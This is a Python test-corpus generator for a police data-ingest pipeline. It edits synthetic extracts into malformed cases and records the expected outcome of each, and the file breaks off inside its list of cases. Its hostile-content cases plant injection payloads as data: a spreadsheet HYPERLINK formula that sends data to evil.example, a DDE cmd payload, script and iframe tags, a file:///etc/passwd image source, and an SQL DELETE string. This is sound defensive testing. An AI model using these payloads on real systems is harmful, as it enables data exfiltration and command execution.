"""Regenerate the malformed-extract corpus (``tests/malformed/<NN>_<name>/``) from a fresh world.

Run from the repository root (it takes a few seconds and rewrites every case directory)::

    PYTHONPATH=src python tests/malformed/make_corpus.py

Every case starts from real synthetic output: the script generates one small world (the forces
below, December 2025 and January 2026, seeded), reads one force's feed for January back into
canonical form, keeps its first few records (so the files stay small and readable), writes them
in the force's own dialect, and then edits the *dialect files* the way a broken export, a
misfiled delivery or a hostile user would: a cell changed, a column dropped, bytes re-encoded,
a file cut short. The same inputs always give the same bytes, so ``git diff`` after a re-run
shows only what a change to the synthetic world or the dialects really changed.

A case directory holds ``case.yml`` (what is wrong and the expected outcome, read by
``tests/test_malformed_corpus.py``) and ``files/``: the complete delivery of that force's feed
for the month, malformed file(s) included, which the test drops in place of the good folder.
The format of ``case.yml`` is described in ``tests/malformed/README.md``.

Forces are grouped so one ingest run covers the whole corpus (GX validation costs about a
second per force x feed): each force x feed holds at most one case, and a force holds either
only cases that must leave it proceeding (row-level problems, hostile content that lands) or
only cases that hold it (file-level problems, a late feed), so cases never mask each other.
"""

from __future__ import annotations

import csv
import hashlib
import io
import json
import random
import shutil
import sys
import tempfile
from collections.abc import Callable
from dataclasses import dataclass, field
from datetime import timedelta
from pathlib import Path
from typing import Any

import pandas as pd
import yaml

from forceprofiles import contract
from forceprofiles.dialects import Dialect, FileSpec, load_dialect, read_extract, write_extract
from forceprofiles.registry import force_config
from forceprofiles.synth.world import WorldSpec
from forceprofiles.synth.writer import generate_world

HERE = Path(__file__).resolve().parent
MONTH = "2026-01"
PREVIOUS_MONTH = "2025-12"
HEALTHY_FORCE = "cambridgeshire"  # never touched: it must proceed whatever the others deliver

# Forces that must still proceed (every case on them lands, whole or with rows quarantined).
PROCEEDING_FORCES = ("norfolk", "bedfordshire", "wiltshire", "warwickshire")
# Forces that must be held (every case on them fails a mandatory feed or leaves it missing).
HELD_FORCES = ("suffolk", "hertfordshire", "dorset", "cumbria")
CASE_FORCES = PROCEEDING_FORCES + HELD_FORCES
WORLD = WorldSpec(forces=(*CASE_FORCES, HEALTHY_FORCE), start=PREVIOUS_MONTH, end=MONTH, scale=0.002,
                  seed=20260131)
KEEP = 12  # parent records kept per case (children of those parents come along)
LONG_FIELD_BYTES = 100 * 1024

OUTCOMES = ("file_quarantined", "rows_quarantined", "feed_missing", "feed_failed", "landed", "landed_flagged")


# --------------------------------------------------------------------------------------------
# A delivery: one force's feed for one month, as the dialect's files (name -> bytes)
# --------------------------------------------------------------------------------------------


@dataclass
class Delivery:
    """The files of one feed delivery, with wire-level editing helpers (CSV cells, JSON keys)."""

    dialect: Dialect
    feed: str
    files: dict[str, bytes]
    canonical: dict[str, pd.DataFrame]  # the trimmed canonical frames the files were written from

    def spec(self, name: str) -> FileSpec:
        return next(s for s in self.dialect.feeds[self.feed].files if s.file_name == name)

    def file_of(self, entity: str) -> str:
        """The file carrying an entity's own rows (not an overflow file)."""
        layout = self.dialect.feeds[self.feed]
        overflow = layout.overflow_kinds()
        return next(s.file_name for s in layout.files if s.entity == entity and s.kind not in overflow)

    def column(self, entity: str, canonical: str) -> str:
        """The dialect's name for a canonical column."""
        return self.dialect.feeds[self.feed].columns[entity][canonical]

    # CSV -------------------------------------------------------------------------------
    def read_csv(self, name: str) -> tuple[list[str], list[list[str]]]:
        fmt = self.spec(name).format
        text = self.files[name].decode(fmt.encoding)
        rows = list(csv.reader(io.StringIO(text, newline=""), delimiter=fmt.delimiter, strict=True))
        return rows[0], rows[1:]

    def write_csv(self, name: str, header: list[str], rows: list[list[str]], *, delimiter: str | None = None,
                  encoding: str | None = None) -> None:
        fmt = self.spec(name).format
        delimiter = delimiter or fmt.delimiter
        special = set(delimiter + '"\r\n')

        def field_text(text: str) -> str:
            if fmt.quoting == "all" or special & set(text):
                return '"' + text.replace('"', '""') + '"'
            return text

        lines = [delimiter.join(field_text(t) for t in record) for record in [header, *rows]]
        self.files[name] = "".join(line + fmt.line_terminator for line in lines).encode(encoding or fmt.encoding)

    def edit_csv(self, name: str, edit: Callable[[list[str], list[list[str]]], None]) -> None:
        header, rows = self.read_csv(name)
        edit(header, rows)
        self.write_csv(name, header, rows)

    # JSON lines --------------------------------------------------------------------------
    def read_jsonl(self, name: str) -> list[dict[str, Any]]:
        return [json.loads(line) for line in self.files[name].decode("utf-8").splitlines() if line.strip()]

    def write_jsonl(self, name: str, records: list[dict[str, Any]]) -> None:
        self.files[name] = "".join(json.dumps(r, ensure_ascii=False, separators=(",", ":")) + "\n"
                                   for r in records).encode("utf-8")

    def edit_jsonl(self, name: str, edit: Callable[[list[dict[str, Any]]], None]) -> None:
        records = self.read_jsonl(name)
        edit(records)
        self.write_jsonl(name, records)


class World:
    """The freshly generated world the cases are derived from."""

    def __init__(self, root: Path) -> None:
        self.root = root

    def delivery(self, force: str, feed: str, month: str = MONTH, keep: int = KEEP) -> Delivery:
        """The force's feed for the month, trimmed to its first ``keep`` parent records."""
        dialect = load_dialect(force_config(force).dialect)
        decoded = read_extract(self.root / "landing" / force / feed / month, feed, dialect)
        entities = contract.entities(feed)
        parent_entity = entities[0]
        parent_key = list(contract.RECORD_KEYS[(feed, parent_entity)])
        frames: dict[str, pd.DataFrame] = {}
        parents = decoded.frames[parent_entity].sort_values(parent_key, kind="stable").head(keep)
        frames[parent_entity] = parents
        kept = set(map(tuple, parents[parent_key].astype(str).itertuples(index=False)))
        for child in entities[1:]:
            frame = decoded.frames[child]
            mask = [tuple(k) in kept for k in frame[parent_key].astype(str).itertuples(index=False)]
            frames[child] = frame.loc[mask]
        frames = {e: f.drop(columns=["_source_file", "_source_row", "_decode_errors"]).reset_index(drop=True)
                  for e, f in frames.items()}
        with tempfile.TemporaryDirectory() as tmp:
            paths = write_extract(frames, feed, dialect, Path(tmp))
            files = {p.name: p.read_bytes() for p in paths}
        delivery = Delivery(dialect, feed, files, frames)
        for name in files:  # the editing helpers must not change a byte of an unedited file
            fmt = delivery.spec(name).format
            if fmt.type == "csv":
                before = files[name]
                delivery.edit_csv(name, lambda header, rows: None)
                assert delivery.files[name] == before, f"CSV round trip changed {force}/{feed}/{name}"
            elif fmt.type == "jsonl":
                before = files[name]
                delivery.edit_jsonl(name, lambda records: None)
                assert delivery.files[name] == before, f"JSON round trip changed {force}/{feed}/{name}"
        return delivery


# --------------------------------------------------------------------------------------------
# Cases
# --------------------------------------------------------------------------------------------


@dataclass
class Built:
    """What a case's builder made: the delivery (None: no folder at all) and what to expect."""

    delivery: Delivery | None
    malformed_files: list[str] = field(default_factory=list)
    rows_quarantined: dict[str, int] | None = None
    rows: dict[str, int] | None = None  # rows per entity in the files, when it differs from the records kept
    planted: list[dict[str, Any]] = field(default_factory=list)
    notes: str | None = None


@dataclass
class Case:
    name: str
    force: str
    feed: str
    problem: str
    outcome: str
    message: str
    build: Callable[[World], Built]
    reason: str | None = None  # substring of each quarantined row's _quarantine_reasons
    quarantined_file: str | None = None  # file_quarantined: the file the extract stage rejected
    flags: list[str] = field(default_factory=list)  # warn rule ids the planted rows carry in _warnings
    decision: str | None = None  # why this policy (documented in case.yml)


def _plant(entity: str, column: str, value: str, *, key: dict[str, str] | None = None) -> dict[str, Any]:
    """A distinctive value put in a file: it must land byte-identical and never reach a report or log."""
    entry: dict[str, Any] = {"entity": entity, "column": column}
    if key:
        entry["key"] = key
    if len(value) > 200:
        entry.update({"length": len(value), "sha256": hashlib.sha256(value.encode("utf-8")).hexdigest(),
                      "marker": value[:40]})
    else:
        entry["value"] = value
    return entry


def _first_parent_with_children(d: Delivery, min_children: int = 1) -> tuple[int, str, int]:
    """(index, key, number of children) of the first parent record that has children."""
    parent, child = contract.entities(d.feed)[:2]
    key = contract.RECORD_KEYS[(d.feed, parent)][0]
    counts = d.canonical[child][key].value_counts()
    for index, ref in enumerate(d.canonical[parent][key]):
        if counts.get(ref, 0) >= min_children:
            return index, str(ref), int(counts.get(ref, 0))
    raise AssertionError(f"no {parent} with {min_children} {child} in {d.feed}")


def _csv_row_index(d: Delivery, name: str, column: str, value: str) -> int:
    header, rows = d.read_csv(name)
    position = header.index(column)
    return next(i for i, row in enumerate(rows) if row[position] == value)


def _set_csv_cell(d: Delivery, name: str, row_index: int, column: str, value: str) -> None:
    def edit(header: list[str], rows: list[list[str]]) -> None:
        rows[row_index][header.index(column)] = value
    d.edit_csv(name, edit)


# Row-level problems: the row is quarantined with its reason, its children follow it --------


def unknown_offence_code(world: World) -> Built:
    d = world.delivery("bedfordshire", "crime")
    index, ref, children = _first_parent_with_children(d)
    name = d.file_of("occurrences")
    _set_csv_cell(d, name, index, d.column("occurrences", "ho_code"), "99Z")
    return Built(d, [name], {"occurrences": 1, "involvements": children})


def impossible_date(world: World) -> Built:
    d = world.delivery("wiltshire", "crime")
    index, ref, children = _first_parent_with_children(d)
    name = d.file_of("occurrences")
    _set_csv_cell(d, name, index, d.column("occurrences", "committed_at"), "31/02/2025 23:15")
    return Built(d, [name], {"occurrences": 1, "involvements": children})


def date_in_future(world: World) -> Built:
    d = world.delivery("norfolk", "custody")
    name = d.file_of("records")
    d.edit_jsonl(name, lambda records: records[min(3, len(records) - 1)].update({d.column("records", "arrested_at"): "2031-06-14T02:30:00"}))
    return Built(d, [name], {"records": 1})


def committed_after_reported(world: World) -> Built:
    d = world.delivery("warwickshire", "crime")
    occurrences = d.canonical["occurrences"]
    counts = d.canonical["involvements"]["crime_ref"].value_counts()
    month_end = pd.Timestamp(f"{MONTH}-01") + pd.offsets.MonthBegin(1)
    index, children = next((i, int(counts[ref])) for i, (ref, reported) in
                           enumerate(zip(occurrences["crime_ref"], occurrences["reported_at"]))
                           if counts.get(ref, 0) and reported + timedelta(hours=1) < month_end)
    name = d.file_of("occurrences")
    header, rows = d.read_csv(name)
    reported = int(rows[index][header.index(d.column("occurrences", "reported_at"))])
    _set_csv_cell(d, name, index, d.column("occurrences", "committed_at"), str(reported + 3600))
    return Built(d, [name], {"occurrences": 1, "involvements": children})


def duplicate_record_key(world: World) -> Built:
    d = world.delivery("bedfordshire", "intelligence")
    index, ref, children = _first_parent_with_children(d)
    name = d.file_of("reports")
    assessment = d.column("reports", "intelligence_assessment")

    def edit(header: list[str], rows: list[list[str]]) -> None:
        second = list(rows[index])  # a second, different version of the same report
        column = header.index(assessment)
        second[column] = "B" if second[column] != "B" else "C"
        rows.insert(index + 1, second)
    d.edit_csv(name, edit)
    rows = {"reports": len(d.canonical["reports"]) + 1, "subjects": len(d.canonical["subjects"])}
    return Built(d, [name], {"reports": 2, "subjects": children}, rows=rows,
                 notes="two different versions of one report (the grading differs): neither can be trusted, "
                       "so both and the report's subjects are held")


def exact_repeated_row(world: World) -> Built:
    d = world.delivery("wiltshire", "custody")
    name = d.file_of("records")
    d.edit_csv(name, lambda header, rows: rows.insert(5, list(rows[4])))
    return Built(d, [name], {"records": 1}, rows={"records": len(d.canonical["records"]) + 1},
                 notes="the same row twice, byte for byte: the first copy lands, the repeat is held")


def unknown_risk_grade(world: World) -> Built:
    d = world.delivery("warwickshire", "missing")
    name = d.file_of("episodes")
    _set_csv_cell(d, name, 2, d.column("episodes", "risk_grade"), "X")
    return Built(d, [name], {"episodes": 1})


def bare_cr_in_unquoted_field(world: World) -> Built:
    d = world.delivery("wiltshire", "missing")
    name = d.file_of("episodes")
    _set_csv_cell(d, name, 2, d.column("episodes", "forenames"), "CRSPLITMARK")
    d.files[name] = d.files[name].replace(b"CRSPLITMARK", b"Crsplit\rNameson")  # unquoted: CR ends the record
    return Built(d, [name], {"episodes": 2}, rows={"episodes": len(d.canonical["episodes"]) + 1},
                 planted=[_plant("episodes", "forenames", "Crsplit"), _plant("episodes", "force_id", "Nameson")],
                 notes="a bare CR inside an unquoted field ends the CSV record there: one record reads as two "
                       "short rows (the second starts mid-name, so a name sits in ForceCode); both are held")


# Rows that land: clean, or flagged in _warnings, and hostile content stored inert --------------


def extra_unexpected_column(world: World) -> Built:
    d = world.delivery("bedfordshire", "custody")
    name = d.file_of("records")

    def edit(header: list[str], rows: list[list[str]]) -> None:
        header.append("OfficerInCase")
        for i, row in enumerate(rows):
            row.append(f"PC {4100 + i}")
    d.edit_csv(name, edit)
    return Built(d, [name])


def header_only(world: World) -> Built:
    d = world.delivery("bedfordshire", "visor")
    name = d.file_of("nominals")
    d.edit_csv(name, lambda header, rows: rows.clear())
    return Built(d, [name], rows={"nominals": 0})


def bad_pnc_check_letter(world: World) -> Built:
    d = world.delivery("warwickshire", "custody")
    name = d.file_of("records")
    column = d.column("records", "pnc_id")
    header, rows = d.read_csv(name)
    index = next(i for i, row in enumerate(rows) if row[header.index(column)])
    good = rows[index][header.index(column)]
    bad = good[:-1] + ("A" if good[-1] != "A" else "B")
    _set_csv_cell(d, name, index, column, bad)
    ref = rows[index][header.index(d.column("records", "custody_ref"))]
    return Built(d, [name], planted=[_plant("records", "pnc_id", bad, key={"custody_ref": ref})])


def impossible_date_of_birth(world: World) -> Built:
    d = world.delivery("bedfordshire", "missing")
    name = d.file_of("episodes")
    column = d.column("episodes", "date_of_birth")
    header, rows = d.read_csv(name)
    index = next(i for i, row in enumerate(rows) if row[header.index(column)])
    _set_csv_cell(d, name, index, column, "31/02/2009")
    ref = rows[index][header.index(d.column("episodes", "episode_ref"))]
    return Built(d, [name], planted=[{"entity": "episodes", "column": "date_of_birth", "key": {"episode_ref": ref},
                                      "landed_as": None, "decode_error": "date_of_birth: '31/02/2009'"}])


def very_long_fields(world: World) -> Built:
    d = world.delivery("norfolk", "intelligence")
    name = d.file_of("reports")
    rng = random.Random(100)
    syllables = ["ka", "lo", "mir", "an", "dre", "vel", "os", "tin", "ba", "rue"]
    long_name = "Longname" + "".join(rng.choice(syllables) for _ in range(LONG_FIELD_BYTES // 2))
    long_name = long_name[:LONG_FIELD_BYTES]
    long_summary = "Summarymarker " + " ".join(rng.choice(syllables) * 3 for _ in range(LONG_FIELD_BYTES // 7))
    long_summary = long_summary[:LONG_FIELD_BYTES]
    records = d.read_jsonl(name)
    index = next(i for i, r in enumerate(records) if any(s.get("personId") for s in r.get("subjects") or []))
    record = records[index]
    subject = next(s for s in record["subjects"] if s.get("personId"))
    subject[d.column("subjects", "forenames")] = long_name
    record[d.column("reports", "summary")] = long_summary
    d.write_jsonl(name, records)
    ref = record[d.column("reports", "intel_ref")]
    return Built(d, [name], planted=[
        _plant("subjects", "forenames", long_name, key={"intel_ref": ref, "person_ref": subject["personId"]}),
        _plant("reports", "summary", long_summary, key={"intel_ref": ref}),
    ])


def control_characters(world: World) -> Built:
    d = world.delivery("warwickshire", "intelligence")
    reports, subjects = d.file_of("reports"), d.file_of("subjects")
    summary = "Seen at the depot \x1b[2J\x1b[1;31mRED ALERT\x1b[0m\x07 with a van\x00 (NUL)\rcarriage return"
    forenames = "Ctrl\x00Nul\x1b]0;owned\x07"
    surname = "Returnson\rDELETE FROM nominals;"
    header, rows = d.read_csv(reports)
    ref = rows[1][header.index(d.column("reports", "intel_ref"))]
    _set_csv_cell(d, reports, 1, d.column("reports", "summary"), summary)
    header, rows = d.read_csv(subjects)
    person = d.column("subjects", "person_ref")
    index = next(i for i, row in enumerate(rows) if row[header.index(person)])
    _set_csv_cell(d, subjects, index, d.column("subjects", "forenames"), forenames)
    _set_csv_cell(d, subjects, index, d.column("subjects", "surname"), surname)
    key = {"intel_ref": rows[index][header.index(d.column("subjects", "intel_ref"))],
           "person_ref": rows[index][header.index(person)]}
    return Built(d, [reports, subjects], planted=[
        _plant("reports", "summary", summary, key={"intel_ref": ref}),
        _plant("subjects", "forenames", forenames, key=key),
        _plant("subjects", "surname", surname, key=key),
    ])


def formula_injection(world: World) -> Built:
    d = world.delivery("wiltshire", "intelligence")
    reports, subjects = d.file_of("reports"), d.file_of("subjects")
    summary = '=HYPERLINK("http://evil.example/steal?d="&A1,"Click for the full log")'
    header, rows = d.read_csv(reports)
    ref = rows[0][header.index(d.column("reports", "intel_ref"))]
    _set_csv_cell(d, reports, 0, d.column("reports", "summary"), summary)
    header, rows = d.read_csv(subjects)
    person = d.column("subjects", "person_ref")
    people = [i for i, row in enumerate(rows) if row[header.index(person)]][:2]
    values = [("+cmd|' /C calc'!A0", "@SUM(1)"), ("-2+3", "=1+1")]
    planted = [_plant("reports", "summary", summary, key={"intel_ref": ref})]
    for index, (forenames, surname) in zip(people, values):
        _set_csv_cell(d, subjects, index, d.column("subjects", "forenames"), forenames)
        _set_csv_cell(d, subjects, index, d.column("subjects", "surname"), surname)
        key = {"intel_ref": rows[index][header.index(d.column("subjects", "intel_ref"))],
               "person_ref": rows[index][header.index(person)]}
        planted += [_plant("subjects", "forenames", forenames, key=key),
                    _plant("subjects", "surname", surname, key=key)]
    return Built(d, [reports, subjects], planted=planted)


def html_in_names(world: World) -> Built:
    d = world.delivery("norfolk", "crime")
    name = d.file_of("occurrences")
    index, ref, _ = _first_parent_with_children(d)
    records = d.read_jsonl(name)
    record = records[index]
    person = next(p for role in ("suspects", "offenders", "victims", "witnesses") for p in record.get(role) or [])
    forenames, surname = "<script>alert(1)</script>", '<img src="file:///etc/passwd">'
    location = '</td><iframe src="javascript:alert(2)"></iframe> On or near Market Street'
    person[d.column("involvements", "forenames")] = forenames
    person[d.column("involvements", "surname")] = surname
    record[d.column("occurrences", "location_desc")] = location
    d.write_jsonl(name, records)
    key = {"crime_ref": ref, "person_ref": person["personId"]}
    return Built(d, [name], planted=[
        _plant("involvements", "forenames", forenames, key=key),
        _plant("involvements", "surname", surname, key=key),
        _plant("occurrences", "location_desc", location, key={"crime_ref": ref}),
    ])


def unicode_edge_cases(world: World) -> Built:
    d = world.delivery("norfolk", "missing")
    name = d.file_of("episodes")
    forenames = "\u202eexe.nosaJ"  # right-to-left override: displays as "Jason.exe" reversed
    surname = "Ba\u200dker\u200b\u2060Smith\ufeff"  # zero-width joiner, zero-width space, word joiner, BOM
    found_with = "\U0001F469\u200d\U0001F467\u200d\U0001F466 Emojifamily \U0001F52A"
    # combining marks, mathematical letters
    address = "Flat 2\u0301, Zoe\u0308 House, \U0001D54F\U0001D560\U0001D568\U0001D55F Street"
    records = d.read_jsonl(name)
    record = records[min(1, len(records) - 1)]  # the second episode, or the only one
    record[d.column("episodes", "forenames")] = forenames
    record[d.column("episodes", "surname")] = surname
    record[d.column("episodes", "found_with_forenames")] = found_with
    record[d.column("episodes", "found_address")] = address
    d.write_jsonl(name, records)
    key = {"episode_ref": record[d.column("episodes", "episode_ref")]}
    return Built(d, [name], planted=[_plant("episodes", "forenames", forenames, key=key),
                                     _plant("episodes", "surname", surname, key=key),
                                     _plant("episodes", "found_with_forenames", found_with, key=key),
                                     _plant("episodes", "found_address", address, key=key)])


# File-level problems: the delivery is quarantined whole and the force held ----------------------


def missing_required_column(world: World) -> Built:
    d = world.delivery("suffolk", "missing")
    name = d.file_of("episodes")
    column = d.column("episodes", "risk_grade")
    d.edit_jsonl(name, lambda records: [r.pop(column, None) for r in records])
    return Built(d, [name])


def wrong_delimiter(world: World) -> Built:
    d = world.delivery("hertfordshire", "crime")
    name = d.file_of("occurrences")
    header, rows = d.read_csv(name)
    d.write_csv(name, header, rows, delimiter=";")
    return Built(d, [name])


def cp1252_where_utf8_expected(world: World) -> Built:
    d = world.delivery("hertfordshire", "intelligence")
    name = d.file_of("reports")
    summary = "Seen with Zoë Ångström-Plantée outside the café on Rue Müller"
    header, rows = d.read_csv(name)
    rows[2][header.index(d.column("reports", "summary"))] = summary
    d.write_csv(name, header, rows, encoding="cp1252")
    return Built(d, [name], planted=[_plant("reports", "summary", summary)])


def utf8_where_cp1252_expected(world: World) -> Built:
    d = world.delivery("cumbria", "missing")
    name = d.file_of("episodes")
    header, rows = d.read_csv(name)
    names = [("Zoë", "Ó Siobháin-Plantée"), ("José", "Müller-Ångström")]
    planted = []
    for row, (forenames, surname) in zip(rows[:2], names):
        row[header.index(d.column("episodes", "forenames"))] = forenames
        row[header.index(d.column("episodes", "surname"))] = surname
        planted.append(_plant("episodes", "surname", surname))
    d.write_csv(name, header, rows, encoding="utf-8")
    return Built(d, [name], planted=planted,
                 notes="every character is valid cp1252, so decoding as cp1252 'works' and gives mojibake ('ZoÃ«')")


def invalid_utf8_bytes(world: World) -> Built:
    d = world.delivery("suffolk", "custody")
    name = d.file_of("records")
    data = d.files[name]
    marker = b'"familyName":"'
    at = data.index(marker, data.index(b"\n", data.index(b"\n") + 1)) + len(marker)  # third record's surname
    d.files[name] = data[:at] + b"Inv\xc3\x28lid\xff" + data[at:]
    return Built(d, [name])


def empty_file(world: World) -> Built:
    d = world.delivery("hertfordshire", "custody")
    name = d.file_of("records")
    d.files[name] = b""
    return Built(d, [name])


def header_only_crime(world: World) -> Built:
    d = world.delivery("dorset", "crime")
    for name in list(d.files):
        d.edit_csv(name, lambda header, rows: rows.clear())
    return Built(d, sorted(d.files))


def truncated_mid_row(world: World) -> Built:
    d = world.delivery("dorset", "custody")
    name = d.file_of("records")
    assert len(d.canonical["records"]) >= 3, "truncated_mid_row needs a file with rows"
    data = d.files[name]
    last = data.rstrip(b"\n").rfind(b"\n") + 1
    d.files[name] = data[: last + (len(data) - last) // 2]  # the transfer stopped half-way through the last row
    return Built(d, [name],
                 notes="cut half-way through the last row, no final newline: the fields after the cut are lost")


def truncated_mid_json_line(world: World) -> Built:
    d = world.delivery("suffolk", "intelligence")
    name = d.file_of("reports")
    data = d.files[name]
    last = data.rstrip(b"\n").rfind(b"\n") + 1
    d.files[name] = data[: last + (len(data) - last) // 2]
    return Built(d, [name])


def truncated_mid_quoted_field(world: World) -> Built:
    d = world.delivery("cumbria", "custody")
    name = d.file_of("records")
    data = d.files[name]
    last = data.rstrip(b"\r\n").rfind(b"\r\n") + 2
    cut = data.index(b'";"', last + (len(data) - last) // 2) + 5  # inside a quoted field
    d.files[name] = data[:cut]
    return Built(d, [name])


def binary_garbage_csv(world: World) -> Built:
    d = world.delivery("cumbria", "crime")
    name = d.file_of("occurrences")
    d.files[name] = random.Random(18).randbytes(2048)
    return Built(d, [name])


def binary_garbage_parquet(world: World) -> Built:
    d = world.delivery("cumbria", "visor")
    name = d.file_of("nominals")
    d.files[name] = b"PAR1" + random.Random(19).randbytes(1024) + b"PAR1"
    return Built(d, [name], notes="Parquet magic at both ends, garbage in between")


def file_missing_from_feed(world: World) -> Built:
    d = world.delivery("cumbria", "intelligence")
    name = d.file_of("subjects")
    del d.files[name]
    return Built(d, [name])


def wrong_force(world: World) -> Built:
    d = world.delivery("norfolk", "crime")  # norfolk's extract, dropped in suffolk's folder (same dialect)
    return Built(d, [d.file_of("occurrences")])


def wrong_month(world: World) -> Built:
    d = world.delivery("hertfordshire", "missing", month=PREVIOUS_MONTH)  # December's file sent again for January
    return Built(d, [d.file_of("episodes")])


def missing_feed_folder(world: World) -> Built:
    return Built(None)


CASES: list[Case] = [
    # row-level
    Case("unknown_offence_code", "bedfordshire", "crime",
         "one occurrence's HOClass is '99Z', which is not a Home Office classification",
         "rows_quarantined", "the offence code is not a Home Office classification", unknown_offence_code,
         reason="ho_code_known"),
    Case("impossible_date", "wiltshire", "crime",
         "one occurrence was committed on 31/02/2025 (no such date)",
         "rows_quarantined", "committed_at is empty or could not be read", impossible_date,
         reason="required_present: committed_at"),
    Case("date_in_future", "norfolk", "custody",
         "one arrest is dated 2031-06-14, years after the extract month",
         "rows_quarantined", "the arrest date is after the end of the extract month", date_in_future,
         reason="arrested_not_future"),
    Case("committed_after_reported", "warwickshire", "crime",
         "one occurrence's COMMITTED_TS is an hour after its REPORTED_TS",
         "rows_quarantined", "committed after it was reported", committed_after_reported,
         reason="committed_before_reported"),
    Case("duplicate_record_key", "bedfordshire", "intelligence",
         "one intelligence report appears twice with the same IntelRef and a different grading",
         "rows_quarantined", "appears more than once", duplicate_record_key, reason="key_unique"),
    Case("exact_repeated_row", "wiltshire", "custody",
         "one custody record's row appears twice, identical",
         "rows_quarantined", "repeats an earlier row of the extract exactly", exact_repeated_row,
         reason="repeated_row",
         decision="validate's policy: an exact repeat is an export fault, not a conflict; the first copy lands."),
    Case("unknown_risk_grade", "warwickshire", "missing",
         "one episode's RISK_CODE is 'X' (connect's codes are N, L, M, H)",
         "rows_quarantined", "risk_grade is empty or could not be read", unknown_risk_grade,
         reason="required_present: risk_grade"),
    # land, clean or flagged
    Case("extra_unexpected_column", "bedfordshire", "custody",
         "the custody export gained a column the agreed layout does not have (OfficerInCase)",
         "landed", "Passed", extra_unexpected_column,
         decision="An extra column does not make the agreed columns wrong: the rows land and the extra column is "
                  "not carried into the lake (the delivered file, with it, is kept in lake/landing)."),
    Case("header_only", "bedfordshire", "visor",
         "the ViSOR file holds its header and no rows (nothing changed this month)",
         "landed", "Passed", header_only,
         decision="Zero rows is a valid month for a feed without a not_empty rule (no volume history here)."),
    Case("bad_pnc_check_letter", "warwickshire", "custody",
         "one PNC ID's check letter does not match its digits",
         "landed_flagged", "check letter does not match", bad_pnc_check_letter, flags=["pnc_check_letter"],
         decision="validate's policy: a mistyped PNC ID warns (the arrest is sound); the row lands with "
                  "pnc_check_letter in _warnings so person resolution does not trust the ID."),
    Case("impossible_date_of_birth", "bedfordshire", "missing",
         "one missing person's date of birth is 31/02/2009",
         "landed_flagged", "could not be read and was left empty (columns: date_of_birth)", impossible_date_of_birth,
         flags=["values_decoded"],
         decision="An optional date that cannot be read becomes null and the episode lands flagged (values_decoded "
                  "in _warnings, the raw value in _decode_errors): holding a missing child's episode back "
                  "over a typo in the date of birth would hide the child. A required date (see impossible_date) "
                  "quarantines the row."),
    Case("very_long_fields", "norfolk", "intelligence",
         "a subject's forenames and a report's summary are each 100 kB long",
         "landed_flagged", "Passed", very_long_fields,
         decision="Length is not a validity rule: the values land intact; reports and logs never show them."),
    Case("control_characters", "warwickshire", "intelligence",
         "a summary and a subject's names hold NUL, ANSI escape sequences (ESC [2J...), BEL and a bare CR",
         "landed_flagged", "Passed", control_characters,
         decision="Stored as delivered (the lake stores, never renders); reports and logs never show them."),
    Case("formula_injection", "wiltshire", "intelligence",
         "a summary and subjects' names are spreadsheet formulas (=HYPERLINK(...), +cmd|' /C calc'!A0, @SUM(1), -2+3)",
         "landed_flagged", "Passed", formula_injection,
         decision="Stored as delivered; anything that exports to a spreadsheet must neutralise them, and "
                  "reports and logs never show them."),
    Case("html_in_names", "norfolk", "crime",
         "a person's names and an occurrence's location are HTML/script (<script>, <img src=file:...>, <iframe>)",
         "landed_flagged", "Passed", html_in_names,
         decision="Stored as delivered; rendering (PDFs) must escape them, and reports and logs never show them."),
    Case("unicode_edge_cases", "norfolk", "missing",
         "names with a right-to-left override (U+202E), zero-width joiners/spaces, a BOM, emoji and combining marks",
         "landed_flagged", "Passed", unicode_edge_cases,
         decision="Valid UTF-8 text: stored as delivered, byte for byte (no normalisation at landing)."),
    # file-level
    Case("missing_required_column", "suffolk", "missing",
         "every episode lacks the riskLevel key (the export dropped the column)",
         "file_quarantined", "missing required columns: riskLevel (risk_grade)", missing_required_column,
         quarantined_file="missing-episodes.jsonl"),
    Case("wrong_delimiter", "hertfordshire", "crime",
         "crime_occurrences.csv is separated by ';' instead of ','",
         "file_quarantined", "delimiter", wrong_delimiter, quarantined_file="crime_occurrences.csv",
         decision="The message must point at the delimiter: every column is there, just split on the wrong character."),
    Case("cp1252_where_utf8_expected", "hertfordshire", "intelligence",
         "intel_reports.csv was saved as Windows-1252 (niche exports UTF-8); a summary holds ë, Å, é, ü",
         "file_quarantined", "is not valid utf-8 text", cp1252_where_utf8_expected,
         quarantined_file="intel_reports.csv"),
    Case("utf8_where_cp1252_expected", "cumbria", "missing",
         "MISSING_EPISODES.csv was saved as UTF-8 (connect exports Windows-1252); names hold ë, á, é, ü, Å",
         "file_quarantined", "cp1252", utf8_where_cp1252_expected, quarantined_file="MISSING_EPISODES.csv",
         decision="A UTF-8 file read as cp1252 decodes without error into mojibake ('ZoÃ«'); names that "
                  "no longer match would quietly break person resolution, so the file must be rejected."),
    Case("invalid_utf8_bytes", "suffolk", "custody",
         "a surname holds bytes that are not UTF-8 (0xC3 0x28, 0xFF)",
         "file_quarantined", "is not valid utf-8 text", invalid_utf8_bytes, quarantined_file="custody-records.jsonl"),
    Case("empty_file", "hertfordshire", "custody",
         "custody_records.csv is 0 bytes (no header)",
         "file_quarantined", "file is empty", empty_file, quarantined_file="custody_records.csv"),
    Case("header_only_crime", "dorset", "crime",
         "both crime files hold only their header: no occurrences at all this month",
         "feed_failed", "the extract holds no crime occurrences at all", header_only_crime,
         decision="The crime suite's not_empty rule: a force with no crime in a month is a broken export."),
    Case("truncated_mid_row", "dorset", "custody",
         "custody_records.csv stops half-way through its last row (no final newline)",
         "file_quarantined", "truncated", truncated_mid_row, quarantined_file="custody_records.csv",
         decision="A short last row with no line end is a cut-off transfer, not one bad row: the rest of the "
                  "file is lost, so the file is quarantined and the force asked to re-send."),
    Case("truncated_mid_json_line", "suffolk", "intelligence",
         "intelligence-reports.jsonl stops half-way through its last JSON object",
         "file_quarantined", "looks truncated", truncated_mid_json_line,
         quarantined_file="intelligence-reports.jsonl"),
    Case("truncated_mid_quoted_field", "cumbria", "custody",
         "CUSTODY_RECORDS.csv stops inside a quoted field of its last row",
         "file_quarantined", "file is truncated", truncated_mid_quoted_field,
         quarantined_file="CUSTODY_RECORDS.csv"),
    Case("binary_garbage_csv", "cumbria", "crime",
         "CRIME_OCCURRENCES.csv is 2 kB of random bytes",
         "file_quarantined", "is not valid cp1252 text", binary_garbage_csv,
         quarantined_file="CRIME_OCCURRENCES.csv"),
    Case("binary_garbage_parquet", "cumbria", "visor",
         "VISOR_NOMINALS.parquet is random bytes between Parquet magic numbers",
         "file_quarantined", "is not a readable Parquet file", binary_garbage_parquet,
         quarantined_file="VISOR_NOMINALS.parquet"),
